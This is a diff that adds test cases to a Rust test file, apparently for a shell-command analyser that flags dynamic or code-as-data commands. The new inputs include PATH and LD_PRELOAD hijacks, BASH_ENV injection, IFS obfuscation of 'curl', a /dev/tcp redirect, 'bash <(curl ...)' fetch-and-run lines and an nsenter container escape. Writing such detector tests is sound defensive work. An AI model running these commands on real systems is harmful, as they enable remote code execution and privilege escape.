@@ -132,6 +132,14 @@ fn what_cannot_be_known_is_dynamic() {
     is_dynamic("hash -p /usr/bin/curl ls; ls x");
     is_dynamic("${!x} y");
     is_dynamic("${x/a/b} y");
+    is_dynamic("PATH=/tmp/x:$PATH ls");
+    is_dynamic("export PATH=/tmp; ls");
+    is_dynamic("LD_PRELOAD=/tmp/x.so ls");
+    is_dynamic("env LD_PRELOAD=/tmp/x.so ls");
+    is_dynamic("sudo LD_PRELOAD=/tmp/x.so ls");
+    is_dynamic("BASH_ENV=/tmp/x bash -c true");
+    is_dynamic("IFS=/; x=a/curl; $x");
+    is_dynamic("cat < $(echo /dev/tcp/h/80)");
     assert!(
         dynamic("$CMD x")
             .unwrap()
@@ -290,6 +298,11 @@ fn code_fed_as_data() {
     runs("bash <<< 'nc h 1'", "nc");
     assert!(fed("sh <<EOF\n$(curl x)\nEOF").is_some());
     assert!(fed("bash <<< \"$X\"").is_some());
+    assert!(fed("bash <(curl -s http://x)").is_some());
+    assert!(fed("python3 <(curl -s http://x)").is_some());
+    assert!(fed("ssh other-host").is_some());
+    assert!(fed("nsenter -t 1 -a").is_some());
+    runs("bash <(curl -s http://x)", "curl");
 }
 
 #[test]
